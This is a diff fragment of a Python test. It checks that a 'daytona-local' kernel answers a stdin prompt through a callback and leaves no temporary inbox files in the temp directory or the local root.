+    pattern = "**/daytona-kernel-inbox-*"
+    before = set(glob.glob(os.path.join(tempfile.gettempdir(), pattern), recursive=True))
+    with Kernel("daytona-local", cwd=str(tmp_path)) as k:
+        run = k.execute("print(input('name? '))", stdin_answer=lambda content: "ada")
+        assert run.text() == "ada\n"
+    after = set(glob.glob(os.path.join(tempfile.gettempdir(), pattern), recursive=True))
+    assert after - before == set()
+    assert glob.glob(str(local_root() / pattern), recursive=True) == []
